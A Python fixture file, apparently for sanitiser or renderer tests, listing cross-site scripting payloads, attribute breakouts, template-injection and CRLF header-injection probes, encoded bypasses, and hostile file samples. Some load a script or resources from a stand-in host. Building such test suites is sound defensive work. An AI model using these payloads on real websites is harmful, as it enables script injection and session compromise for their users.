"""Texts that would run in a page that does not escape: each calls `alert`, or asks for something outside."""

OUT = "https://outside.example/"

MARKUP = (
    "<script>alert(1)</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<script src=https://outside.example/x.js></script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=https://outside.example/pixel>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=x onerror\n=\nalert(1)>",
    "<img srcset='https://outside.example/p 1x'>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:alert(1)'><text x=20 y=20>x</text></a>",
    "<svg><image href=https://outside.example/svg>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<iframe src=https://outside.example/frame></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=https://outside.example/embed>",
    "<video src=https://outside.example/v onerror=alert(1)></video>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)></select>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<meta http-equiv=refresh content='0;url=https://outside.example/refresh'>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=https://outside.example/>",
    "<link rel=stylesheet href=https://outside.example/css>",
    "<link rel=preload as=image href=https://outside.example/preload>",
    "<link rel=prefetch href=https://outside.example/prefetch>",
    "<style>@import 'https://outside.example/import';</style>",
    "<style>body{background:url(https://outside.example/background)}</style>",
    "<div style='background:url(https://outside.example/style)'>x</div>",
    "<form action=https://outside.example/form><input type=submit autofocus></form>",
    "<math><mtext><script>alert(1)</script></mtext></math>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<a href=javascript:alert(1)>x</a>",
    '<script type=speculationrules>{"prefetch":[{"urls":["https://outside.example/spec"],"eagerness":"immediate"}]}</script>',
    "<x onclick=alert(1) tabindex=1 autofocus onfocus=alert(1)>x</x>",
    "<input oncontentvisibilityautostatechange=alert(1) style=content-visibility:auto>",
    "<style>@keyframes k{}</style><b style=animation-name:k onanimationstart=alert(1)>x</b>",
    "<div><template shadowrootmode=open><img src=x onerror=alert(1)></template></div>",
    "<svg><set onbegin=alert(1) attributename=x>",
    "<b popover id=p onbeforetoggle=alert(1)>x</b><button popovertarget=p autofocus>x</button>",
    "<a href='java&Tab;script&colon;alert(1)' autofocus>x</a>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<iframe src='data:text/html,<img src=https://outside.example/data>'></iframe>",
)

BREAKOUTS = (
    '" onmouseover="alert(1)" autofocus onfocus="alert(1)',
    "' onfocus='alert(1)' autofocus '",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "`-alert(1)-`",
    "';alert(1);//",
    "${alert(1)}",
    "{{7*7}}{{ self.__init__.__globals__ }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}",
    "\u202e<script>alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\ufeff<script>alert(1)</script>",
    "<\x0bscript>alert(1)</script>",
    "\r\nSet-Cookie: a=b\r\n\r\n<script>alert(1)</script>",
)

ADDRESSES = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "\x01javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:alert(1)",
    "blob:https://outside.example/1",
    'https://outside.example/"onmouseover="alert(1)',
    "https://outside.example/'><script>alert(1)</script>",
    "//outside.example/",
)

TEXTS = (*MARKUP, *BREAKOUTS)

ALL = "\n".join(TEXTS)

MHTML = (
    "From: <Saved>\r\nMIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=x\r\n\r\n--x\r\n"
    "Content-Type: text/html\r\nContent-Location: https://example.org/\r\n\r\n" + ALL + "\r\n--x--\r\n"
)

FILES = {
    "evil.html": ("text/html", ALL),
    "evil.xhtml": (
        "application/xhtml+xml",
        "<html xmlns='http://www.w3.org/1999/xhtml'><script>alert(1)</script></html>",
    ),
    "evil.svg": (
        "image/svg+xml",
        "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'><script>alert(1)</script></svg>",
    ),
    "evil.xml": ("text/xml", "<x xmlns='http://www.w3.org/1999/xhtml'><script>alert(1)</script></x>"),
    "evil.mhtml": ("multipart/related", MHTML),
    "evil.eml": ("message/rfc822", MHTML),
    "evil.csv": ("text/csv", '=HYPERLINK("https://outside.example/","x"),<script>alert(1)</script>'),
    "evil.js": ("text/javascript", "alert(1)"),
    "evil.pdf": ("application/pdf", "%PDF-1.4\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj"),
    "evil.txt": ("text/plain", ALL),
    "evil.json": ("application/json", '{"a": "<script>alert(1)</script>"}'),
    "evil.png": ("image/png", "<html><script>alert(1)</script></html>"),
    "evil.bin": ("application/octet-stream", ALL),
}
